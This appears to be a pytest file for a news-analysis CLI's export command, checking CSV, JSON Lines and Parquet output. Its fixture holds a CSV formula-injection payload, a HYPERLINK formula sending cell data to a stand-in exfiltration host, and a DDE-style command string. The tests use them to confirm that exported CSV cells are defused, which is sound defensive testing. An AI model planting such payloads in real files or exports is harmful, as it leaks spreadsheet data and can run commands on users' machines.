"""``sitrep export figures|claims|findings|articles``: the same rows as the listings, in
CSV a spreadsheet opens safely, in JSON Lines and in Parquet."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from test_ledger import AUGUST, COPY, JANUARY, MAY

from sitrep.cli import main
from sitrep.report.export import csv_cell

FORMULA_TITLE = "=HYPERLINK(\"https://exfil.example/?\"&A1,\"open\")"
HOSTILE = [
    {"title": FORMULA_TITLE, "outlet": "@Dnipro Courier", "published": "2026-03-02",
     "url": "https://courier.example/a",
     "text": "Colonel Ruta Zemaite said on Monday that 12,000 troops would join the Amber "
             "Gate exercise near Klaipėda.\n\n+cmd|' /C calc'!A0 was printed under it."},
]


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> str:
    tmp = tmp_path_factory.mktemp("exports")
    path = str(tmp / "x.db")
    runner = CliRunner()
    (tmp / "hostile.jsonl").write_text(
        "".join(json.dumps(a, ensure_ascii=False) + "\n" for a in HOSTILE), encoding="utf-8")
    for name, text, day in (("jan.txt", JANUARY, "2026-01-15"), ("may.txt", MAY, "2026-05-21"),
                            ("aug.txt", AUGUST, "2026-08-21"),
                            ("aug-copy.txt", COPY, "2026-08-21"), ("hostile.jsonl", None,
                                                                   "2026-03-02")):
        if text is not None:
            (tmp / name).write_text(text, encoding="utf-8")
        result = runner.invoke(main, ["ingest", str(tmp / name), "--captured-at", day,
                                      "--db", path])
        assert result.exit_code == 0, result.output
    return path


def _export(db: str, table: str, fmt: str, out: Path) -> Path:
    result = CliRunner().invoke(main, ["export", table, "--format", fmt, "--out", str(out),
                                       "--db", db])
    assert result.exit_code == 0, result.output
    return out


def _listing(db: str, command: str) -> list[dict]:
    result = CliRunner().invoke(main, [command, "--format", "jsonl", "--db", db])
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.output.splitlines()]


def test_csv_opens_in_a_spreadsheet_and_runs_no_formula(db: str, tmp_path: Path):
    raw = _export(db, "articles", "csv", tmp_path / "a.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == len(_listing(db, "articles"))
    hostile = next(r for r in rows if "HYPERLINK" in r["title"])
    assert hostile["title"] == "'" + FORMULA_TITLE and hostile["outlet"] == "'@Dnipro Courier"
    assert "Klaipėda" in hostile["text"]
    for row in rows:  # no cell of any row starts a formula
        assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@")], row
    assert csv_cell(-3.5) == -3.5 and csv_cell(None) == "" and csv_cell(["a", "b"]) == "a; b"


def test_csv_and_jsonl_hold_the_rows_of_the_listings(db: str, tmp_path: Path):
    figures = _listing(db, "figures")
    rows = list(csv.DictReader(io.StringIO(
        _export(db, "figures", "csv", tmp_path / "f.csv").read_text("utf-8-sig"))))
    assert [r["id"] for r in rows] == [f["id"] for f in figures]
    assert {r["rejected"] for r in rows} == {"false"}
    findings = _listing(db, "findings")
    assert findings
    exported = [json.loads(line) for line in _export(
        db, "findings", "jsonl", tmp_path / "g.jsonl").read_text("utf-8").splitlines()]
    assert exported == findings
    claims = [json.loads(line) for line in _export(
        db, "claims", "jsonl", tmp_path / "c.jsonl").read_text("utf-8").splitlines()]
    assert {f for c in claims for f in c["figure_ids"]} <= {f["id"] for f in figures}
    assert max(c["citations"] for c in claims) >= 2  # the copied story: one claim, two outlets


def test_parquet_keeps_types_and_lists(db: str, tmp_path: Path):
    pq = pytest.importorskip("pyarrow.parquet")
    for table, listing in (("figures", "figures"), ("findings", "findings"),
                           ("articles", "articles")):
        out = _export(db, table, "parquet", tmp_path / f"{table}.parquet")
        data = pq.read_table(out).to_pylist()
        assert [r["id"] for r in data] == [r["id"] for r in _listing(db, listing)]
    figures = pq.read_table(tmp_path / "figures.parquet")
    assert str(figures.schema.field("low").type) == "double"
    assert str(figures.schema.field("rejected").type) == "bool"
    findings = pq.read_table(tmp_path / "findings.parquet")
    kind = findings.schema.field("figure_ids").type
    assert kind.num_fields == 1 and str(kind.value_type) == "string"  # a list of strings
    articles = pq.read_table(tmp_path / "articles.parquet").to_pylist()
    assert any(r["title"] == FORMULA_TITLE for r in articles)  # kept as it is: not a sheet


def test_a_rejected_figure_is_marked_in_the_figures_export(db: str, tmp_path: Path):
    copy = tmp_path / "r.db"
    copy.write_bytes(Path(db).read_bytes())
    figure = _listing(str(copy), "figures")[0]["id"]
    result = CliRunner().invoke(main, ["correct", "reject", figure, "--db", str(copy)])
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in _export(
        str(copy), "figures", "jsonl", tmp_path / "f.jsonl").read_text("utf-8").splitlines()]
    assert [r["id"] for r in rows if r["rejected"]] == [figure]
    refused = CliRunner().invoke(main, ["export", "figures", "--format", "parquet", "--out",
                                        "-", "--db", str(copy)])
    assert refused.exit_code != 0
